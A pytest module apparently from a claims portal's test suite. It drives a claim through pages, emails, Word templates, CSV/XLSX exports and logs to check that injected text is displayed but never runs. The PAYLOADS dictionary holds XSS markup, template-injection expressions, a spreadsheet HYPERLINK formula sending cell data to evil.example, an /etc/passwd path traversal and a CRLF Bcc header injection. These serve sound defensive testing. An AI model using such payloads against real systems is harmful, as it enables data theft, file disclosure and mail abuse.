"""Texts that would be run somewhere else: on every page, mail, CSV and log line they are texts."""

import csv
import io
import json
import logging
from collections.abc import Iterator
from email import message_from_bytes, policy
from email.message import EmailMessage

import pytest
from flask import Flask
from lxml import html
from openpyxl import load_workbook
from sqlalchemy import select

from portal.accounts.model import Organization
from portal.audit.model import AuditEvent
from portal.claims.acting import act, create
from portal.claims.answers import Answers, Upload
from portal.claims.consent_links import link_in_force, token_for
from portal.claims.queries import claim_by_number
from portal.claims.refusals import Invalid
from portal.clock import FixedClock
from portal.db import db
from portal.web.logs import configure_logging
from portal.work.sweep import sweep
from tests.conftest import NOW
from tests.documents import pdf
from tests.page_checks import faults_of_content_security
from tests.portal.reviews.filing import REVIEWER, REVIEWER2, Filing
from tests.word_files import parts_that_run, texts_of

pytestmark = [pytest.mark.broad, pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)]

PARTNER = "incentives@contoso.example"
MARK = "xyzzy"
PAYLOADS = {
    "script": f'<script>{MARK}()</script><img src=x onerror={MARK}()>"\'><a href="javascript:{MARK}()">',
    "template": f"{{{{ 7001*7001 }}}}{{% raw %}}${{7001*7001}}<%= 7001*7001 %>{{claim.number}} {MARK}",
    "formula": f'=HYPERLINK("http://evil.example/?"&A1,"{MARK}")',
    "path": f"../../../etc/passwd%2f..\\..\\{MARK}",
    "control": f"\x1b[31m{MARK}\x07\u202e\u2028\r\nBcc: evil@evil.example\r\n\r\n\x85end",
}
RUN = "49014001"  # what an executed template would leave


@pytest.fixture
def log() -> Iterator[io.StringIO]:
    """What the process logs, as `portal serve` writes it."""
    root, stream = logging.getLogger(), io.StringIO()
    handlers, level = list(root.handlers), root.level
    configure_logging(FixedClock(NOW), stream)
    yield stream
    root.handlers, root.level = handlers, level


class Life:
    """One claim whose every text is the payload, brought through all that shows or sends texts."""

    def __init__(self, filing: Filing, text: str) -> None:
        self.filing, self.text = filing, text
        # Long texts take any character; what is one line takes none that nobody sees.
        self.line = text if text.isprintable() else MARK
        self.pages: list[tuple[str, str]] = []
        # Signed in while nothing is filed: the tests' browser takes a template mark for a forgotten one.
        self.clients = {who: filing.browser(who).client for who in (PARTNER, REVIEWER)}
        self.clients[""] = filing.app.test_client()

    def live(self) -> None:
        number = self.draft()
        self.look(
            PARTNER, *(f"/claims/{number}/wizard/{step}" for step in STEPS), f"/claims/{number}", "/claims"
        )
        self.template = self.clients[PARTNER].get(f"/claims/{number}/template.docx").get_data()
        self.filing.do("submit", number, PARTNER)
        self.filing.do("start_review", number, REVIEWER)
        self.filing.do("comment", number, PARTNER, message=self.text)
        self.filing.do("request_information", number, REVIEWER, reason="missing_all_poe", message=self.text)
        self.everywhere(number)
        self.filing.do("resubmit", number, PARTNER, message=self.text)
        self.filing.do("start_review", number, REVIEWER)
        self.filing.do("reject", number, REVIEWER, reason="insufficient_poe", message=self.text)
        self.everywhere(number)
        self.filing.do("dispute", number, PARTNER, justification=self.text)
        self.everywhere(number)
        self.filing.do("approve_dispute", number, REVIEWER2)
        self.everywhere(number)
        self.look("", f"/consent/{self.token(number)}")
        self.filing.do("disassociate", number, PARTNER, reason=self.text)
        self.everywhere(number)
        answer = self.clients[PARTNER].get("/claims.csv")
        assert answer.content_type == "text/csv; charset=utf-8"
        self.table = answer.get_data().decode("utf-8-sig")
        self.sheet = self.clients[PARTNER].get("/claims.xlsx").get_data()
        self.filing.wait(60)
        with self.filing.context():
            sweep(self.filing.desk)

    def draft(self) -> str:
        actor = self.filing.actors[PARTNER]
        with self.filing.context():
            desk = self.filing.desk
            place = db.session.scalars(
                select(Organization).where(Organization.id == actor.organization_id)
            ).one()
            number = create(desk, actor, Answers({"location": (str(place.locations[0].id),)})).number
            fields = {
                "customer_name": self.line,
                "customer_domain": "adatum.example",
                "customer_tenant_id": "3f0e3a9c-6a53-4f3f-8c59-2d4a4f7c1b77",
                "activity": "use_or_consume",
                "product": "teams",
                "customer_contact_name": self.line,
                "customer_contact_title": self.line,
                "customer_contact_email": "casey@adatum.example",
                "own_contact_name": self.line,
                "own_contact_email": PARTNER,
                "commentary": self.text,
                "name": self.line,
            }
            answers = Answers({name: (value,) for name, value in fields.items()}, (self.upload(),))
            act(desk, "edit", number, actor, answers)
        return number

    def upload(self) -> Upload:
        return Upload(f"{self.text}.pdf", pdf(f"A letter about {MARK}").content)

    def token(self, number: str) -> str:
        with self.filing.context():
            link = link_in_force(db.session(), claim_by_number(db.session(), number).id)
            assert link is not None
            return token_for(self.filing.desk.secret, link)

    def everywhere(self, number: str) -> None:
        with self.filing.context():
            events = db.session.scalars(
                select(AuditEvent.place).where(AuditEvent.subject == f"claim:{number}")
            )
            whys = [f"/claims/{number}/events/{event}" for event in events]
        self.look(PARTNER, f"/claims/{number}", "/claims", f"/claims?q={MARK}", *whys[-2:])
        self.look(REVIEWER, f"/reviews/{number}", "/reviews", f"/reviews?q={MARK}")

    def look(self, who: str, *paths: str) -> None:
        client = self.clients[who]
        for path in paths:
            answer = client.get(path)
            assert answer.status_code in (200, 404), f"{path}: {answer.status_code}"
            self.pages.append((path, answer.get_data(as_text=True)))


STEPS = ("location", "customer", "activity", "products", "contacts", "evidence", "review")


@pytest.mark.parametrize("text", PAYLOADS.values(), ids=PAYLOADS)
def test_a_text_is_shown_and_runs_nowhere(app: Flask, clock: FixedClock, log: io.StringIO, text: str) -> None:
    life = Life(Filing(app, clock), text)
    life.live()

    shown = 0
    for path, page in life.pages:
        tree = html.document_fromstring(page)
        assert faults_of_content_security(tree) == [], path
        assert not tree.xpath(f"//script[not(@src)]|//*[contains(name(), '{MARK}')]|//img[@src='x']"), path
        assert RUN not in page, path
        shown += MARK in tree.text_content()
    assert shown > 10, "the text was to be seen"

    mails = [
        message_from_bytes(file.read_bytes(), policy=policy.default)
        for file in sorted(life.filing.desk.settings.mail_dir.rglob("*.eml"))
    ]
    assert len(mails) > 5
    for mail in mails:
        harmless(mail)
    assert any(MARK in mail.as_string() for mail in mails)

    assert life.line in texts_of(life.template), "the template says what the claim says, letter by letter"
    assert RUN not in "".join(texts_of(life.template))
    assert parts_that_run(life.template) == []

    rows = list(csv.reader(io.StringIO(life.table, newline="")))
    assert len(rows) == 2
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")), cell

    book = load_workbook(io.BytesIO(life.sheet)).active
    cells = [str(cell.value) for cell in book[2] if cell.value is not None]
    assert any(MARK in cell for cell in cells)
    for row in book.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value
            assert not str(cell.value).startswith(("=", "+", "-", "@", "\t", "\r", "\n")), cell.value
    assert book.max_row == 2

    lines = log.getvalue().splitlines()
    assert lines
    for line in lines:
        assert json.loads(line)["level"] in ("info", "warning", "debug"), line
        assert "\x1b" not in line


@pytest.mark.parametrize("field", ["name", "customer_name", "own_contact_name", "customer_contact_title"])
def test_one_line_takes_no_characters_that_nobody_sees(app: Flask, clock: FixedClock, field: str) -> None:
    filing = Filing(app, clock)
    number = filing.draft()
    with pytest.raises(Invalid) as caught:
        filing.do("edit", number, PARTNER, **{field: PAYLOADS["control"]})
    assert field in caught.value.errors


def harmless(mail: EmailMessage) -> None:
    """A mail has the headers the portal writes, each in one line, and nothing in it runs."""
    assert set(mail.keys()) <= HEADERS, mail.keys()
    assert "evil" not in f"{mail['To']}{mail['From']}{mail['Message-ID']}"
    for name, value in mail.items():
        assert not set(str(value)) & set("\r\n\x1b\x07"), name
    for part in mail.walk():
        if part.get_content_maintype() != "multipart":
            words = part.get_content()
            assert RUN not in words
            if part.get_content_type() == "text/html":
                tree = html.document_fromstring(words)
                assert not tree.xpath(
                    "//script|//img[@src='x']|//@onerror|//@href[contains(., 'javascript:')]"
                )


HEADERS = {
    "From", "To", "Subject", "Date", "Message-ID", "MIME-Version", "Content-Type",
    "Content-Transfer-Encoding", "Auto-Submitted", "X-Auto-Response-Suppress", "References",
}  # fmt: skip
